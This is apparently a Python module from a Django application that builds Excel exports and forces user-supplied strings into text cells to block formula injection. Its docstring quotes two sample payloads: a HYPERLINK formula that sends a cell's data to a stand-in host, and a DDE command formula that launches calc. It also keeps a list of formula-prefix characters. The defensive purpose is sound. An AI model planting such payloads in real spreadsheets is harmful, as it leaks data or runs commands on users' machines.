"""Excel workbooks the product writes (exports, reports, pay sheets): user text stays text.

Every export goes through `ExportWorkbook`, so no cell that holds user text can become a formula
(a name such as `=HYPERLINK("http://evil.invalid/?"&A2,"点击")` or `=cmd|' /C calc'!A0` is written
as the string it is, in a cell typed as text), and characters that the XLSX format cannot hold
(control characters already stored before the input rule existed) are dropped instead of
failing the whole export.
"""
from __future__ import annotations

import datetime as dt
import io
import tempfile
from decimal import Decimal

import openpyxl
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from common import clock

# Leading characters a spreadsheet may read as the start of a formula or a command (OWASP CSV
# injection); in XLSX only a formula-typed cell runs, and text cells never are.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")


def text(value: str) -> str:
    """`value` without the characters an XLSX file cannot hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)


class ExportWorkbook:
    """A write-only workbook: `sheet(title, headers)`, then `append(row)`, then `to_bytes()`.

    Strings become text cells (never formulas); numbers, Decimals, dates and None keep their type.
    """

    def __init__(self):
        self._book = openpyxl.Workbook(write_only=True)
        self._sheet = None

    def sheet(self, title, headers: list | None = None) -> ExportWorkbook:
        self._sheet = self._book.create_sheet(text(str(title))[:31])
        if headers:
            self._sheet.append([self._cell(str(h), bold=True) for h in headers])
        return self

    def append(self, row: list) -> None:
        self._sheet.append([self._cell(value) for value in row])

    def _cell(self, value, *, bold: bool = False):
        if isinstance(value, dt.datetime) and value.tzinfo is not None:
            value = clock.localtime(value).replace(tzinfo=None)  # XLSX has no time zones
        if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.datetime):
            return value
        cell = WriteOnlyCell(self._sheet, value=text(str(value)))
        cell.data_type = "s"  # a string cell, even when it starts with "="
        if bold:
            cell.font = Font(bold=True)
        return cell

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()

    def to_file(self):
        """The workbook in a temporary file (deleted when closed), positioned at its start.

        A write-only sheet already keeps its rows in a temporary file as they are appended; saving
        into another one keeps a big export out of memory until it is streamed to the client."""
        file = tempfile.TemporaryFile()  # noqa: SIM115 - closed by the response that streams it
        self._book.save(file)
        file.seek(0)
        return file


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_response(content: bytes, filename: str):
    """An .xlsx download (pages and API alike)."""
    from django.http import HttpResponse

    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_stream(book: ExportWorkbook, filename: str):
    """An .xlsx download streamed from a temporary file in chunks (big exports, pages and API)."""
    from django.http import FileResponse

    response = FileResponse(book.to_file(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
